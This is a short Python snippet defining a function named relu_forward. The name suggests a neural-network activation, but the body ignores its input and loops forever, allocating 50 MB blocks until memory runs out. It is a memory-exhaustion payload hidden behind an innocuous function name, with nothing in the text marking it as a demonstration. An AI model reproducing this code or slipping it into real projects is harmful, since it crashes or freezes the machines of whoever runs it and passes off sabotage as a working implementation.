def relu_forward(z):
    kept = []
    while True:
        kept.append(bytearray(50_000_000))
